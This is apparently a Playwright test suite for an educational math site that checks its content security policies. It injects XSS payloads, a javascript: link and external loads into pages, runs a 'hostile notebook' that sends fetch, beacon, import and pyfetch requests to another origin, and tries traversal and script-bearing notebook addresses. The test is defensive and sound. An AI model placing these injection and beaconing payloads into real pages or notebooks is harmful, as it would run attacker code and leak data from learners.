"""The content security policies: nothing of ours offends them, and what a stranger wrote does."""

import http.server
import json
import os
import shutil
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from playwright.sync_api import expect

from sitegen.paths import DIST
from tests.browser.conftest import VIOLATIONS, serving

PAGES = [
    "index.html",
    "teacher.html",
    "course1/week1/index.html",
    "course1/week1/lesson1_systems_of_two_equations.html",
    "course1/week1/quiz.html",
]
LESSON = "course1/week1/lesson1_systems_of_two_equations"
LAB = "course1/week1/lab2_solving_linear_systems_two_variables"

# What somebody could smuggle into a page; `{}` is another site.
INJECTED = """<script>window.broken = "script"</script>
<img src="data:," onerror="window.broken = 'handler'">
<a id="trap" href="javascript:void (window.broken = 'address')">here</a>
<script src="{0}script.js"></script><link rel="stylesheet" href="{0}style.css">
<img src="{0}picture.png"><iframe src="{0}frame"></iframe><object data="{0}object"></object>
<style>body {{ background: url({0}background.png) }}</style>
<form action="{0}form"><button id="send">Send</button></form>"""

# Code as in a notebook that a stranger gave to a learner.
SPY = """from IPython.display import HTML, Javascript, display
display(HTML('''{html}'''))
display(Javascript('''fetch("{0}fetch").catch(() => {{}});
new Image().src = "{0}image"; navigator.sendBeacon("{0}beacon");
import("{0}module.js").catch(() => {{}});
document.head.append(Object.assign(document.createElement("script"), {{src: "{0}script.js"}}));
new Function("window.ran = true")();'''))
import pyodide.http
try:
    await pyodide.http.pyfetch("{0}from-python")
except Exception as error:
    print(type(error).__name__)"""
RUN_CODE = """async (source) => {
    const notebook = window.jupyterapp.shell.currentWidget.content;
    const at = notebook.model.cells.length;
    notebook.model.sharedModel.insertCell(at, {cell_type: "code", source});
    notebook.activeCellIndex = at;
    await window.jupyterapp.commands.execute("notebook:run-cell");
    return notebook.model.cells.get(at).outputs.toJSON();
}"""


class Counting(http.server.BaseHTTPRequestHandler):
    """Another site, which notes everything that arrives."""

    arrived: list[str]

    def do_GET(self) -> None:
        self.arrived.append(self.path)
        self.send_response(204)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()

    do_POST = do_GET

    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture
def elsewhere():
    """The address of another site, and the list of what arrived there."""
    handler = type("Handler", (Counting,), {"arrived": []})
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}/", handler.arrived
        server.shutdown()


@pytest.fixture
def page(browser):
    """A page of its own, since here the browser is meant to complain."""
    context = browser.new_context()
    yield context.new_page()
    context.close()


@contextmanager
def injecting(folder: Path, path: str, html: str, policy: bool) -> Iterator[str]:
    """Serve the site with HTML added to one page, and without that page's policy if asked."""
    # In a page from a route, browsers stop requests to this machine for another reason.
    shutil.copytree(DIST, folder, dirs_exist_ok=True, copy_function=os.symlink)
    page = (DIST / path).read_text(encoding="utf-8").replace("</body>", f"{html}</body>")
    if not policy:
        page = page.replace("Content-Security-Policy", "X-None")
    (folder / path).unlink()
    (folder / path).write_text(page, encoding="utf-8")
    with serving(folder) as address:
        yield address


# The last, without a policy, shows that the others could fail.
@pytest.mark.parametrize(
    ("path", "policy"), [*((path, True) for path in PAGES), ("index.html", False)]
)
def test_what_is_injected_into_a_page_does_not_run_and_reaches_nobody(
    page, tmp_path, elsewhere, path, policy
):
    outside, arrived = elsewhere
    with injecting(tmp_path, path, INJECTED.format(outside), policy) as address:
        page.goto(address + path, wait_until="networkidle")
        ran = page.evaluate("window.broken")
        page.evaluate("document.querySelector('#trap').click()")
        page.wait_for_timeout(300)
        ran = page.evaluate("window.broken") or ran
        page.evaluate("document.querySelector('#send').click()")
        page.wait_for_timeout(300)
    if policy:
        assert ran is None
        assert arrived == []
        assert page.url == address + path
    else:
        assert ran
        assert len({path.split("?")[0] for path in arrived}) >= 6


def test_pages_are_used_without_offending_their_policy(visit, at_root):
    visitor = visit(at_root)
    page = visitor.page
    page.add_init_script(VIOLATIONS)

    def violations():
        return page.evaluate("window.violations")

    visitor.open("index.html")
    page.locator("[data-part=u] .grip").drag_to(page.locator("[data-part=v] .grip"))
    page.get_by_role("button", name="Search").click()
    page.get_by_role("searchbox", name="Search this site").fill("matrix")
    expect(page.locator(".results li").first).to_be_visible()
    expect(page.locator(".results mark").first).to_be_visible()
    assert violations() == []

    visitor.open(f"{LESSON}.html")
    figure = page.locator(".figure").first
    figure.scroll_into_view_if_needed()
    before = figure.get_attribute("data-state")
    figure.locator("[role=slider]").first.press("ArrowUp")
    expect(figure).not_to_have_attribute("data-state", before)
    page.locator(".question").first.scroll_into_view_if_needed()
    form = page.locator(".question-form").first
    form.get_by_role("button", name="Check").click()
    expect(form.locator(".feedback")).not_to_be_empty()
    assert violations() == []

    visitor.open("course1/week1/practice_quiz.html")
    expect(page.locator(".question-form").first).to_be_visible()
    # Formulas are laid out with style attributes.
    assert page.locator(".katex [style]").count() > 0
    assert violations() == []

    visitor.open("teacher.html")
    body = json.dumps(
        {
            "format": "mlmath-progress",
            "version": 1,
            "exported": "2026-11-21T09:30:00.000Z",
            "name": "Ada",
            "events": [],
        }
    )
    file = {"name": "a.json", "mimeType": "application/json", "buffer": body.encode()}
    page.get_by_label("Progress files").set_input_files(file)
    expect(page.locator("#says")).to_have_text("1 file read.")
    with page.expect_download():
        page.get_by_role("button", name="Save as CSV").click()
    assert violations() == []


def test_a_hostile_notebook_reaches_nobody(visit, at_root, elsewhere):
    outside, arrived = elsewhere
    visitor = visit(at_root)
    page = visitor.page
    html = INJECTED.format(outside).replace("</script>", "<\\/script>").replace("'", "\\'")
    visitor.open_notebook(f"{LAB}.ipynb")
    outputs = page.evaluate(RUN_CODE, SPY.format(outside, html=html))
    assert [output["output_type"] for output in outputs].count("display_data") == 2
    # Its code runs in the page, as JupyterLab means it to, and still sends nothing.
    page.wait_for_function("window.ran === true")
    page.wait_for_timeout(1000)
    assert page.evaluate("window.broken") is None
    assert arrived == []
    assert any(outside in complaint for complaint in visitor.complaints)
    visitor.complaints.clear()


# An address that somebody sends to a learner.
STRANGE = [
    "//{}/x.ipynb",
    "http://{}/x.ipynb",
    "../../../{}/x.ipynb",
    "javascript:window.broken=1",
    "<img src=x onerror=window.broken=1>.ipynb",
]


def test_an_address_cannot_open_a_notebook_from_elsewhere(visit, at_root, elsewhere):
    outside, arrived = elsewhere
    host = outside.split("/")[2]
    visitor = visit(at_root)
    tabs = {}
    for path in STRANGE:
        tab = tabs[path] = visitor.page.context.new_page()
        asked = f"{path.format(host)}&{path.format(host)}#{path}"
        tab.goto(f"{at_root}notebooks/index.html?path={asked}")
        tab.wait_for_function("window.jupyterapp?.shell", timeout=180_000)
    # Not for `restored`: where an address opens nothing it may never come, and a test would hang.
    tab.wait_for_timeout(4000)
    assert arrived == []
    for path, tab in tabs.items():
        assert tab.evaluate("window.broken") is None, path
        for link in tab.locator("#course-header a").all():
            address = link.evaluate("(link) => link.href")
            assert address.startswith(at_root), (path, address)
    # There are no such notebooks, and JupyterLite says so.
    visitor.complaints.clear()
